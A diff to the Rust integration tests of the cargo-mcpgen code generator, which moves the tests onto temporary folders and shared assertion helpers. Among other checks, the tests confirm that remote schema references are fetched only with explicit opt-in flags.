@@ -3,27 +3,91 @@
 use std::path::{Path, PathBuf};
 use std::process::{Command, Output};
 
+use tempfile::TempDir;
+
 fn bin() -> Command {
     Command::new(env!("CARGO_BIN_EXE_cargo-mcpgen"))
+}
+
+/// `cargo-mcpgen generate SPEC --out OUT`, to which a test adds what it needs.
+fn generate(spec: &Path, out: &Path) -> Command {
+    let mut command = bin();
+    command.arg("generate").arg(spec).arg("--out").arg(out);
+    command
+}
+
+/// Runs a command to its end.
+trait Run {
+    fn run(&mut self) -> Output;
+}
+
+impl Run for Command {
+    fn run(&mut self) -> Output {
+        self.output().expect("cargo-mcpgen runs")
+    }
 }
 
 fn example_spec() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/petstore/openapi.yaml")
 }
 
-fn temp_dir(name: &str) -> PathBuf {
-    let dir = std::env::temp_dir().join(format!("mcpgen-cli-{name}-{}", std::process::id()));
-    let _ = std::fs::remove_dir_all(&dir);
-    dir
+/// A scratch folder, removed when the test ends, whether it passes or not.
+fn scratch() -> TempDir {
+    tempfile::Builder::new()
+        .prefix("mcpgen-cli-")
+        .tempdir()
+        .expect("a temporary folder")
+}
+
+/// A scratch folder holding a copy of the example document at `relative`; returns both.
+fn scratch_with_example(relative: &str) -> (TempDir, PathBuf) {
+    let dir = scratch();
+    let spec = dir.path().join(relative);
+    std::fs::create_dir_all(spec.parent().unwrap()).unwrap();
+    std::fs::copy(example_spec(), &spec).unwrap();
+    (dir, spec)
+}
+
+fn write(path: &Path, contents: impl AsRef<[u8]>) {
+    std::fs::write(path, contents).unwrap_or_else(|e| panic!("writing {}: {e}", path.display()));
+}
+
+/// The `src/tools.rs` of a generated crate.
+fn tools_rs(out: &Path) -> String {
+    std::fs::read_to_string(out.join("src/tools.rs")).unwrap()
 }
 
 fn stderr(output: &Output) -> String {
     String::from_utf8_lossy(&output.stderr).into_owned()
 }
 
+/// Asserts that the command ended with exit status `code` and that its stderr says each of
+/// `needles`; shows the stderr when not.
+#[track_caller]
+fn assert_exit(output: &Output, code: i32, needles: &[&str]) {
+    let err = stderr(output);
+    assert_eq!(output.status.code(), Some(code), "{err}");
+    for needle in needles {
+        assert!(err.contains(needle), "`{needle}` is not in:\n{err}");
+    }
+}
+
+#[track_caller]
+fn assert_success(output: &Output) {
+    assert_exit(output, 0, &[]);
+}
+
+/// A `Cargo.toml` of a package `name` whose `[package.metadata.mcpgen]` is `table`.
+fn manifest_with_metadata(name: &str, table: &str) -> String {
+    format!(
+        "[package]\nname = \"{name}\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n{table}"
+    )
+}
+
 #[test]
 fn generate_then_check_then_detect_staleness() {
-    let out = temp_dir("check");
+    let dir = scratch();
+    let out = dir.path().join("out");
     let run = |extra: &[&str]| {
         bin()
             .args(["mcpgen", "generate"])
@@ -31,47 +95,32 @@ fn generate_then_check_then_detect_staleness() {
             .arg("--out")
             .arg(&out)
             .args(extra)
-            .output()
-            .unwrap()
+            .run()
     };
     let first = run(&[]);
-    assert!(first.status.success(), "{}", stderr(&first));
-    assert!(stderr(&first).contains("(6 tools)"), "{}", stderr(&first));
+    assert_exit(&first, 0, &["(6 tools)"]);
     assert!(out.join("Cargo.toml").is_file());
     assert!(out.join("src/mcpgen_runtime/server.rs").is_file());
 
     let check = run(&["--check"]);
-    assert_eq!(check.status.code(), Some(0), "{}", stderr(&check));
+    assert_success(&check);
 
     let again = run(&[]);
-    assert!(
-        stderr(&again).contains("0 files written"),
-        "{}",
-        stderr(&again)
-    );
+    assert_exit(&again, 0, &["0 files written"]);
 
-    std::fs::write(out.join("src/tools.rs"), "// edited by hand\n").unwrap();
+    write(&out.join("src/tools.rs"), "// edited by hand\n");
     let stale = run(&["--check"]);
-    assert_eq!(stale.status.code(), Some(1));
-    assert!(
-        stderr(&stale).contains("src/tools.rs"),
-        "{}",
-        stderr(&stale)
-    );
-    let _ = std::fs::remove_dir_all(&out);
+    assert_exit(&stale, 1, &["src/tools.rs"]);
 }
 
 #[test]
 fn direct_invocation_works_too() {
-    let out = temp_dir("direct");
-    let output = bin()
-        .arg("generate")
-        .arg(example_spec())
-        .args(["--name", "custom-name", "--quiet", "--out"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
+    let dir = scratch();
+    let out = dir.path().join("out");
+    let output = generate(&example_spec(), &out)
+        .args(["--name", "custom-name", "--quiet"])
+        .run();
+    assert_success(&output);
     assert!(
         stderr(&output).is_empty(),
         "--quiet prints nothing: {}",
@@ -79,40 +128,29 @@ fn direct_invocation_works_too() {
     );
     let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
     assert!(manifest.contains("name = \"custom-name\""));
-    let _ = std::fs::remove_dir_all(&out);
 }
 
 #[test]
 fn bad_input_exits_2_and_writes_nothing() {
-    let out = temp_dir("bad");
-    let dir = temp_dir("bad-spec");
-    std::fs::create_dir_all(&dir).unwrap();
-    let spec = dir.join("spec.json");
-    std::fs::write(
+    let dir = scratch();
+    let out = dir.path().join("out");
+    let spec = dir.path().join("spec.json");
+    write(
         &spec,
         r#"{"openapi": "3.0.0", "paths": {"/a": {"get": {"parameters": [{"in": "query"}]}}}}"#,
-    )
-    .unwrap();
-    let output = bin()
-        .args(["generate"])
-        .arg(&spec)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(output.status.code(), Some(2));
-    let message = stderr(&output);
-    assert!(message.contains("spec.json"), "{message}");
-    assert!(message.contains("/paths/~1a/get/parameters/0"), "{message}");
-    assert!(message.contains("name"), "{message}");
+    );
+    let output = generate(&spec, &out).run();
+    assert_exit(
+        &output,
+        2,
+        &["spec.json", "/paths/~1a/get/parameters/0", "name"],
+    );
     assert!(!out.exists(), "nothing is written for a bad document");
-    let _ = std::fs::remove_dir_all(&dir);
 }
 
 #[test]
 fn diff_reports_breaking_changes() {
-    let dir = temp_dir("diff");
-    std::fs::create_dir_all(&dir).unwrap();
+    let dir = scratch();
     let old = std::fs::read_to_string(example_spec()).unwrap();
     let new = old
         // getPetById renamed (same operation), a required query argument added to listPets,
@@ -125,40 +163,26 @@ fn diff_reports_breaking_changes() {
         )
         .replace("    delete:\n      operationId: deletePet", "    x-gone:\n      operationId: deletePet");
     assert_ne!(old, new);
-    let new_path = dir.join("new.yaml");
-    std::fs::write(&new_path, new).unwrap();
+    let new_path = dir.path().join("new.yaml");
+    write(&new_path, new);
 
-    let text = bin()
-        .arg("diff")
-        .arg(example_spec())
-        .arg(&new_path)
-        .output()
-        .unwrap();
-    assert_eq!(text.status.code(), Some(0), "{}", stderr(&text));
+    let text = bin().arg("diff").arg(example_spec()).arg(&new_path).run();
+    assert_success(&text);
     let out = String::from_utf8_lossy(&text.stdout);
-    assert!(
-        out.contains("~ tool renamed getPetById -> fetchPet (GET /pets/{petId})  [breaking]"),
-        "{out}"
-    );
-    assert!(
-        out.contains("- tool deletePet removed (DELETE /pets/{petId})  [breaking]"),
-        "{out}"
-    );
-    assert!(
-        out.contains("~ listPets: argument `owner` added (required)  [breaking]"),
-        "{out}"
-    );
-    assert!(
-        out.contains("~ listPets: argument `limit`: integer -> string  [breaking]"),
-        "{out}"
-    );
+    for line in [
+        "~ tool renamed getPetById -> fetchPet (GET /pets/{petId})  [breaking]",
+        "- tool deletePet removed (DELETE /pets/{petId})  [breaking]",
+        "~ listPets: argument `owner` added (required)  [breaking]",
+        "~ listPets: argument `limit`: integer -> string  [breaking]",
+    ] {
+        assert!(out.contains(line), "`{line}` is not in:\n{out}");
+    }
 
     let json = bin()
         .args(["diff", "--format", "json", "--fail-on-breaking"])
         .arg(example_spec())
         .arg(&new_path)
-        .output()
-        .unwrap();
+        .run();
     assert_eq!(
         json.status.code(),
         Some(1),
@@ -181,11 +205,9 @@ fn diff_reports_breaking_changes() {
         .args(["diff", "--fail-on-breaking"])
         .arg(example_spec())
         .arg(example_spec())
-        .output()
-        .unwrap();
+        .run();
     assert_eq!(same.status.code(), Some(0));
     assert!(String::from_utf8_lossy(&same.stdout).contains("no changes"));
-    let _ = std::fs::remove_dir_all(&dir);
 }
 
 #[test]
@@ -193,9 +215,8 @@ fn inspect_reports_the_tool_list_budget() {
     let output = bin()
         .args(["inspect", "--format", "json"])
         .arg(example_spec())
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
+        .run();
+    assert_success(&output);
     let report: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
     assert_eq!(report["tools"], 6);
     let bytes = report["listBytes"].as_u64().unwrap();
@@ -224,10 +245,9 @@ fn inspect_reports_the_tool_list_budget() {
 
 #[test]
 fn selection_and_prefix_flags() {
-    let out = temp_dir("select");
-    let output = bin()
-        .arg("generate")
-        .arg(example_spec())
+    let dir = scratch();
+    let out = dir.path().join("out");
+    let output = generate(&example_spec(), &out)
         .args([
             "--exclude-operation",
             "deletePet",
@@ -235,125 +255,63 @@ fn selection_and_prefix_flags() {
             "pets",
             "--tool-prefix",
             "pet_",
-            "--out",
         ])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
-    assert!(stderr(&output).contains("(4 tools)"), "{}", stderr(&output));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+        .run();
+    assert_exit(&output, 0, &["(4 tools)"]);
+    let tools = tools_rs(&out);
     assert!(tools.contains("name: \"pet_listPets\""), "prefixed names");
     assert!(!tools.contains("deletePet") && !tools.contains("get_store_inventory"));
 
-    let bad = bin()
-        .arg("generate")
-        .arg(example_spec())
-        .args(["--include-operation", "listPet", "--out"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(bad.status.code(), Some(2));
-    assert!(
-        stderr(&bad).contains("no operation is named `listPet`"),
-        "{}",
-        stderr(&bad)
-    );
-    let _ = std::fs::remove_dir_all(&out);
+    let bad = generate(&example_spec(), &out)
+        .args(["--include-operation", "listPet"])
+        .run();
+    assert_exit(&bad, 2, &["no operation is named `listPet`"]);
 }
 
 #[test]
 fn mcpgen_toml_beside_the_spec_is_read_and_flags_win() {
-    let dir = temp_dir("config");
-    std::fs::create_dir_all(&dir).unwrap();
-    let spec = dir.join("openapi.yaml");
-    std::fs::copy(example_spec(), &spec).unwrap();
-    std::fs::write(
-        dir.join("mcpgen.toml"),
+    let (dir, spec) = scratch_with_example("openapi.yaml");
+    let config = dir.path().join("mcpgen.toml");
+    write(
+        &config,
         "crate_name = \"from-config\"\nexclude_tags = [\"pets\"]\n[descriptions]\n\"GET /store/inventory\" = \"Counts by status.\"\n",
-    )
-    .unwrap();
-    let out = dir.join("out");
-    let output = bin()
-        .arg("generate")
-        .arg(&spec)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
-    assert!(
-        stderr(&output).contains("from-config (1 tools)"),
-        "{}",
-        stderr(&output)
     );
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
-    assert!(tools.contains("Counts by status."));
+    let out = dir.path().join("out");
+    let output = generate(&spec, &out).run();
+    assert_exit(&output, 0, &["from-config (1 tools)"]);
+    assert!(tools_rs(&out).contains("Counts by status."));
 
-    let output = bin()
-        .arg("generate")
-        .arg(&spec)
-        .args(["--name", "from-flag", "--out"])
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(
-        stderr(&output).contains("from-flag (1 tools)"),
-        "{}",
-        stderr(&output)
-    );
+    let output = generate(&spec, &out).args(["--name", "from-flag"]).run();
+    assert_exit(&output, 0, &["from-flag (1 tools)"]);
 
-    std::fs::write(dir.join("mcpgen.toml"), "exclude_tag = [\"pets\"]\n").unwrap();
-    let bad = bin()
-        .arg("generate")
-        .arg(&spec)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(bad.status.code(), Some(2));
-    assert!(
-        stderr(&bad).contains("mcpgen.toml:1")
-            && stderr(&bad).contains("unknown setting `exclude_tag`"),
-        "{}",
-        stderr(&bad)
-    );
-    let _ = std::fs::remove_dir_all(&dir);
+    write(&config, "exclude_tag = [\"pets\"]\n");
+    let bad = generate(&spec, &out).run();
+    assert_exit(&bad, 2, &["mcpgen.toml:1", "unknown setting `exclude_tag`"]);
 }
 
 #[test]
 fn package_metadata_applies_under_mcpgen_toml_and_flags() {
-    let dir = temp_dir("metadata");
-    std::fs::create_dir_all(dir.join("api")).unwrap();
-    let spec = dir.join("api/openapi.yaml");
-    std::fs::copy(example_spec(), &spec).unwrap();
-    let manifest = dir.join("Cargo.toml");
-    std::fs::write(
+    let (dir, spec) = scratch_with_example("api/openapi.yaml");
+    let manifest = dir.path().join("Cargo.toml");
+    write(
         &manifest,
-        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
-         crate_name = \"from-metadata\"\ntool_prefix = \"pets_\"\nexclude_operations = [\"GET /store/inventory\"]\n",
-    )
-    .unwrap();
-    let out = dir.join("out");
+        manifest_with_metadata(
+            "my-app",
+            "crate_name = \"from-metadata\"\ntool_prefix = \"pets_\"\n\
+             exclude_operations = [\"GET /store/inventory\"]\n",
+        ),
+    );
+    let out = dir.path().join("out");
     // Run from inside the package (a folder below its manifest), as `cargo mcpgen` would be.
     let generate = |extra: &[&str]| {
-        bin()
-            .current_dir(dir.join("api"))
-            .arg("generate")
-            .arg(&spec)
-            .arg("--out")
-            .arg(&out)
+        generate(&spec, &out)
+            .current_dir(dir.path().join("api"))
             .args(extra)
-            .output()
-            .unwrap()
+            .run()
     };
     let output = generate(&[]);
-    assert!(
-        stderr(&output).contains("from-metadata (5 tools)"),
-        "{}",
-        stderr(&output)
-    );
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+    assert_exit(&output, 0, &["from-metadata (5 tools)"]);
+    let tools = tools_rs(&out);
     assert!(tools.contains("\"pets_getPetById\""), "the prefix applies");
     assert!(
         !tools.contains("get_store_inventory"),
@@ -361,128 +319,88 @@ fn package_metadata_applies_under_mcpgen_toml_and_flags() {
     );
 
     // mcpgen.toml beside the spec applies on top; flags win over both; lists are joined.
-    std::fs::write(
-        dir.join("api/mcpgen.toml"),
+    let config = dir.path().join("api/mcpgen.toml");
+    write(
+        &config,
         "tool_prefix = \"zoo_\"\nexclude_operations = [\"deletePet\"]\n",
-    )
-    .unwrap();
-    let output = generate(&["--name", "from-flag"]);
-    assert!(
-        stderr(&output).contains("from-flag (4 tools)"),
-        "{}",
-        stderr(&output)
     );
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+    let output = generate(&["--name", "from-flag"]);
+    assert_exit(&output, 0, &["from-flag (4 tools)"]);
+    let tools = tools_rs(&out);
     assert!(tools.contains("\"zoo_getPetById\"") && !tools.contains("pets_getPetById"));
 
     // A mistake in the manifest names the file, the line and where in it.
-    std::fs::remove_file(dir.join("api/mcpgen.toml")).unwrap();
-    std::fs::write(
+    std::fs::remove_file(&config).unwrap();
+    write(
         &manifest,
-        "[package]\nname = \"my-app\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n\
-         tool_prefix = 3\n",
-    )
-    .unwrap();
-    let bad = generate(&[]);
-    assert_eq!(bad.status.code(), Some(2));
-    let err = stderr(&bad);
-    assert!(
-        err.contains("Cargo.toml:6")
-            && err.contains("/package/metadata/mcpgen/tool_prefix")
-            && err.contains("must be a string"),
-        "{err}"
+        manifest_with_metadata("my-app", "tool_prefix = 3\n"),
     );
-    let _ = std::fs::remove_dir_all(&dir);
+    let bad = generate(&[]);
+    assert_exit(
+        &bad,
+        2,
+        &[
+            "Cargo.toml:6",
+            "/package/metadata/mcpgen/tool_prefix",
+            "must be a string",
+        ],
+    );
 }
 
 #[test]
 fn mode_flags_and_settings() {
-    let dir = temp_dir("mode");
-    let out = dir.join("out");
-    let generate = |extra: &[&str]| {
-        bin()
-            .arg("generate")
-            .arg(example_spec())
-            .arg("--out")
-            .arg(&out)
-            .args(extra)
-            .output()
-            .unwrap()
-    };
-    let search = generate(&["--mode", "search"]);
-    assert!(search.status.success(), "{}", stderr(&search));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+    let dir = scratch();
+    let out = dir.path().join("out");
+    let generate_example = |extra: &[&str]| generate(&example_spec(), &out).args(extra).run();
+    let search = generate_example(&["--mode", "search"]);
+    assert_success(&search);
+    let tools = tools_rs(&out);
     assert!(tools.contains("ServeMode::Search"));
     assert!(tools.contains("openapi: Some("), "the document is embedded");
 
-    let mixed = generate(&["--mode", "mixed", "--include-operation", "getPetById"]);
-    assert!(mixed.status.success(), "{}", stderr(&mixed));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+    let mixed = generate_example(&["--mode", "mixed", "--include-operation", "getPetById"]);
+    assert_success(&mixed);
+    let tools = tools_rs(&out);
     assert!(tools.contains("ServeMode::Mixed"));
     assert_eq!(tools.matches("search_only: true").count(), 5);
 
-    let no_includes = generate(&["--mode", "mixed"]);
-    assert_eq!(no_includes.status.code(), Some(2));
-    assert!(
-        stderr(&no_includes).contains("mixed mode needs include_tags or include_operations"),
-        "{}",
-        stderr(&no_includes)
+    let no_includes = generate_example(&["--mode", "mixed"]);
+    assert_exit(
+        &no_includes,
+        2,
+        &["mixed mode needs include_tags or include_operations"],
     );
-    let bad = generate(&["--mode", "everything"]);
-    assert_eq!(bad.status.code(), Some(2));
+    let bad = generate_example(&["--mode", "everything"]);
+    assert_exit(&bad, 2, &[]);
 
-    let bare = generate(&["--no-openapi-resource"]);
-    assert!(bare.status.success(), "{}", stderr(&bare));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
-    assert!(tools.contains("openapi: None"));
+    let bare = generate_example(&["--no-openapi-resource"]);
+    assert_success(&bare);
+    assert!(tools_rs(&out).contains("openapi: None"));
 
     // mcpgen.toml can choose the mode too; the flag wins.
-    let spec_dir = dir.join("spec");
+    let spec_dir = dir.path().join("spec");
     std::fs::create_dir_all(&spec_dir).unwrap();
     let spec = spec_dir.join("openapi.yaml");
     std::fs::copy(example_spec(), &spec).unwrap();
-    std::fs::write(spec_dir.join("mcpgen.toml"), "mode = \"search\"\n").unwrap();
-    let from_file = bin()
-        .arg("generate")
-        .arg(&spec)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(from_file.status.success(), "{}", stderr(&from_file));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
-    assert!(tools.contains("ServeMode::Search"));
-    std::fs::write(spec_dir.join("mcpgen.toml"), "mode = \"lots\"\n").unwrap();
-    let bad_file = bin()
-        .arg("generate")
-        .arg(&spec)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert_eq!(bad_file.status.code(), Some(2));
-    assert!(
-        stderr(&bad_file).contains("not a mode"),
-        "{}",
-        stderr(&bad_file)
-    );
-    let _ = std::fs::remove_dir_all(&dir);
+    write(&spec_dir.join("mcpgen.toml"), "mode = \"search\"\n");
+    let from_file = generate(&spec, &out).run();
+    assert_success(&from_file);
+    assert!(tools_rs(&out).contains("ServeMode::Search"));
+    write(&spec_dir.join("mcpgen.toml"), "mode = \"lots\"\n");
+    let bad_file = generate(&spec, &out).run();
+    assert_exit(&bad_file, 2, &["not a mode"]);
 }
 
 #[test]
 fn runtime_can_be_a_dependency_instead_of_a_copy() {
-    let out = temp_dir("runtime-dep");
+    let dir = scratch();
+    let out = dir.path().join("out");
     let runtime = Path::new(env!("CARGO_MANIFEST_DIR")).join("../runtime");
-    let output = bin()
-        .arg("generate")
-        .arg(example_spec())
+    let output = generate(&example_spec(), &out)
         .arg("--runtime-path")
         .arg(&runtime)
-        .arg("--out")
-        .arg(&out)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
+        .run();
+    assert_success(&output);
     let manifest = std::fs::read_to_string(out.join("Cargo.toml")).unwrap();
     let expected = format!(
         "mcpgen = {{ path = {}, default-features = false }}",
@@ -497,25 +415,21 @@ fn runtime_can_be_a_dependency_instead_of_a_copy() {
         !out.join("src/mcpgen_runtime").exists(),
         "no copy of the runtime"
     );
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
-    assert!(tools.contains("::mcpgen::ApiDescriptor"));
+    assert!(
+        tools_rs(&out).contains("\nuse mcpgen as rt;\n"),
+        "the tool table is written against the runtime crate"
+    );
 
-    let versioned = temp_dir("runtime-version");
-    let output = bin()
-        .arg("generate")
-        .arg(example_spec())
-        .args(["--runtime-version", "0.1", "--out"])
-        .arg(&versioned)
-        .output()
-        .unwrap();
-    assert!(output.status.success(), "{}", stderr(&output));
+    let versioned = dir.path().join("versioned");
+    let output = generate(&example_spec(), &versioned)
+        .args(["--runtime-version", "0.1"])
+        .run();
+    assert_success(&output);
     let manifest = std::fs::read_to_string(versioned.join("Cargo.toml")).unwrap();
     assert!(
         manifest.contains("mcpgen = { version = \"0.1\", default-features = false }"),
         "{manifest}"
     );
-    let _ = std::fs::remove_dir_all(&out);
-    let _ = std::fs::remove_dir_all(&versioned);
 }
 
 /// Serves `/schemas/pet.yaml` (which refers to a relative `common.yaml`) and
@@ -567,60 +481,47 @@ fn serve_pet_schemas() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<String>>>) {
 #[test]
 fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
     let (port, requests) = serve_pet_schemas();
-    let dir = temp_dir("remote-refs");
-    std::fs::create_dir_all(&dir).unwrap();
-    let spec = dir.join("openapi.yaml");
+    let dir = scratch();
+    let spec = dir.path().join("openapi.yaml");
     let reference = format!("http://127.0.0.1:{port}/schemas/pet.yaml#/Pet");
-    std::fs::write(
+    write(
         &spec,
         format!(
             "openapi: 3.0.3\ninfo: {{title: Remote, version: '1'}}\npaths:\n  /pets:\n    post:\n      operationId: addPet\n      requestBody:\n        content:\n          application/json:\n            schema: {{$ref: '{reference}'}}\n      responses:\n        '200':\n          description: ok\n          content:\n            application/json:\n              schema: {{$ref: '{reference}'}}\n"
         ),
-    )
-    .unwrap();
-    let out = dir.join("out");
-    let run = |extra: &[&str]| {
-        bin()
-            .args(["mcpgen", "generate"])
-            .arg(&spec)
-            .arg("--out")
-            .arg(&out)
-            .args(extra)
-            // The test server is local: no proxy of the environment may stand in between.
+    );
+    let out = dir.path().join("out");
+    // The test server is local: no proxy of the environment may stand in between.
+    let local = |command: &mut Command| -> Output {
+        command
             .env("NO_PROXY", "127.0.0.1")
             .env("no_proxy", "127.0.0.1")
-            .output()
-            .unwrap()
+            .run()
+    };
+    let run = |extra: &[&str]| {
+        local(
+            bin()
+                .args(["mcpgen", "generate"])
+                .arg(&spec)
+                .arg("--out")
+                .arg(&out)
+                .args(extra),
+        )
     };
 
     let refused = run(&[]);
-    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
-    assert!(
-        stderr(&refused).contains(&reference),
-        "{}",
-        stderr(&refused)
-    );
-    assert!(
-        stderr(&refused).contains("--allow-remote-refs"),
-        "{}",
-        stderr(&refused)
-    );
+    assert_exit(&refused, 2, &[&reference, "--allow-remote-refs"]);
     assert!(requests.lock().unwrap().is_empty());
     assert!(!out.exists());
 
     // A loopback host is refused even with the opt-in, unless named as allowed.
     let internal = run(&["--allow-remote-refs"]);
-    assert_eq!(internal.status.code(), Some(2), "{}", stderr(&internal));
-    assert!(
-        stderr(&internal).contains("--allow-remote-host"),
-        "{}",
-        stderr(&internal)
-    );
+    assert_exit(&internal, 2, &["--allow-remote-host"]);
     assert!(requests.lock().unwrap().is_empty());
 
     let fetched = run(&["--allow-remote-refs", "--allow-remote-host", "127.0.0.1"]);
-    assert!(fetched.status.success(), "{}", stderr(&fetched));
-    let tools = std::fs::read_to_string(out.join("src/tools.rs")).unwrap();
+    assert_success(&fetched);
+    let tools = tools_rs(&out);
     assert!(tools.contains("fetchedName"), "{tools}");
     assert!(tools.contains("fetched id"), "{tools}");
     let mut seen = requests.lock().unwrap().clone();
@@ -628,55 +529,53 @@ fn remote_refs_need_the_flag_and_are_fetched_once_with_it() {
     assert_eq!(seen, ["/schemas/common.yaml", "/schemas/pet.yaml"]);
 
     // A mcpgen.toml can ship beside a third-party document: it may not turn fetching on.
-    let inspect = |dir: &std::path::Path| {
-        bin()
-            .current_dir(dir)
-            .args(["mcpgen", "inspect"])
-            .arg(&spec)
-            .env("NO_PROXY", "127.0.0.1")
-            .env("no_proxy", "127.0.0.1")
-            .output()
-            .unwrap()
+    let inspect = |cwd: &Path| {
+        local(
+            bin()
+                .current_dir(cwd)
+                .args(["mcpgen", "inspect"])
+                .arg(&spec),
+        )
     };
-    std::fs::write(
-        dir.join("mcpgen.toml"),
+    let config = dir.path().join("mcpgen.toml");
+    write(
+        &config,
         "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
-    )
-    .unwrap();
-    let refused = inspect(&dir);
-    assert_eq!(refused.status.code(), Some(2), "{}", stderr(&refused));
-    assert!(
-        stderr(&refused).contains("mcpgen.toml:2: /allow_remote_hosts")
-            && stderr(&refused).contains("`allow_remote_hosts` is not read from mcpgen.toml"),
-        "{}",
-        stderr(&refused)
+    );
+    let refused = inspect(dir.path());
+    assert_exit(
+        &refused,
+        2,
+        &[
+            "mcpgen.toml:2: /allow_remote_hosts",
+            "`allow_remote_hosts` is not read from mcpgen.toml",
+        ],
     );
     // Turning it off there is harmless, and the user's own manifest may turn it on.
-    std::fs::write(dir.join("mcpgen.toml"), "allow_remote_refs = false\n").unwrap();
-    assert_eq!(inspect(&dir).status.code(), Some(2));
-    std::fs::remove_file(dir.join("mcpgen.toml")).unwrap();
-    let project = dir.join("project");
+    write(&config, "allow_remote_refs = false\n");
+    assert_eq!(inspect(dir.path()).status.code(), Some(2));
+    std::fs::remove_file(&config).unwrap();
+    let project = dir.path().join("project");
     std::fs::create_dir_all(&project).unwrap();
-    std::fs::write(
-        project.join("Cargo.toml"),
-        "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\nallow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
-    )
-    .unwrap();
+    write(
+        &project.join("Cargo.toml"),
+        manifest_with_metadata(
+            "p",
+            "allow_remote_refs = true\nallow_remote_hosts = [\"127.0.0.1\"]\n",
+        ),
+    );
     let inspected = inspect(&project);
-    assert!(inspected.status.success(), "{}", stderr(&inspected));
-    let _ = std::fs::remove_dir_all(&dir);
+    assert_success(&inspected);
 }
 
 /// Every setting a layer can hold, set one way by the lower layers and the other way by the
 /// layer above: the top layer decides, whichever way it goes.
 #[test]
 fn each_layer_can_set_every_setting_either_way() {
-    let dir = temp_dir("layers");
-    let project = dir.join("project");
-    std::fs::create_dir_all(project.join("api")).unwrap();
-    let spec = project.join("api/openapi.yaml");
-    std::fs::copy(example_spec(), &spec).unwrap();
-    let read = |out: &std::path::Path| -> Vec<(String, String)> {
+    let (dir, spec) = scratch_with_example("project/api/openapi.yaml");
+    let project = dir.path().join("project");
+    let config = project.join("api/mcpgen.toml");
+    let read = |out: &Path| -> Vec<(String, String)> {
         ["Cargo.toml", "src/tools.rs", "src/main.rs", "README.md"]
             .iter()
             .map(|f| {
@@ -685,47 +584,37 @@ fn each_layer_can_set_every_setting_either_way() {
             })
             .collect()
     };
-    let generate = |out: &std::path::Path, extra: &[&str]| {
-        let output = bin()
+    let generate_into = |name: &str, extra: &[&str]| {
+        let out = dir.path().join(name);
+        let output = generate(&spec, &out)
             .current_dir(&project)
-            .arg("generate")
-            .arg(&spec)
-            .arg("--out")
-            .arg(out)
             .args(extra)
-            .output()
-            .unwrap();
+            .run();
         assert!(output.status.success(), "{extra:?}: {}", stderr(&output));
-        read(out)
+        read(&out)
     };
-    let defaults = generate(&dir.join("defaults"), &[]);
+    let defaults = generate_into("defaults", &[]);
     let non_default = "inline_refs = true\nno_output_schemas = true\nskip_broken = true\n\
                        mode = \"search\"\nembed_openapi = false\nmax_description_chars = 5\n\
                        release_profile = false\n";
     let default_values = "inline_refs = false\nno_output_schemas = false\nskip_broken = false\n\
                           mode = \"tools\"\nembed_openapi = true\nmax_description_chars = 0\n\
                           release_profile = true\n";
-    let manifest = |table: &str| {
-        std::fs::write(
-            project.join("Cargo.toml"),
-            format!(
-                "[package]\nname = \"p\"\nversion = \"0.1.0\"\n\n[package.metadata.mcpgen]\n{table}"
-            ),
-        )
-        .unwrap();
-    };
 
     // Each layer alone moves every value off its default.
-    manifest(non_default);
-    let from_manifest = generate(&dir.join("manifest"), &[]);
+    write(
+        &project.join("Cargo.toml"),
+        manifest_with_metadata("p", non_default),
+    );
+    let from_manifest = generate_into("manifest", &[]);
     assert_ne!(from_manifest, defaults);
     let tools = &from_manifest[1].1;
     assert!(tools.contains("ServeMode::Search") && tools.contains("openapi: None"));
     assert!(!from_manifest[0].1.contains("[profile.release]"));
 
     // mcpgen.toml puts every value back, over the manifest.
-    std::fs::write(project.join("api/mcpgen.toml"), default_values).unwrap();
-    assert_eq!(generate(&dir.join("file"), &[]), defaults);
+    write(&config, default_values);
+    assert_eq!(generate_into("file", &[]), defaults);
 
     // Flags move every value off again, over mcpgen.toml ...
     let on_flags = [
@@ -739,10 +628,10 @@ fn each_layer_can_set_every_setting_either_way() {
         "5",
         "--no-release-profile",
     ];
-    assert_eq!(generate(&dir.join("flags-on"), &on_flags), from_manifest);
+    assert_eq!(generate_into("flags-on", &on_flags), from_manifest);
 
     // ... and put them back over a mcpgen.toml that moved them.
-    std::fs::write(project.join("api/mcpgen.toml"), non_default).unwrap();
+    write(&config, non_default);
     let off_flags = [
         "--inline-refs=false",
         "--no-output-schemas=false",
@@ -754,35 +643,24 @@ fn each_layer_can_set_every_setting_either_way() {
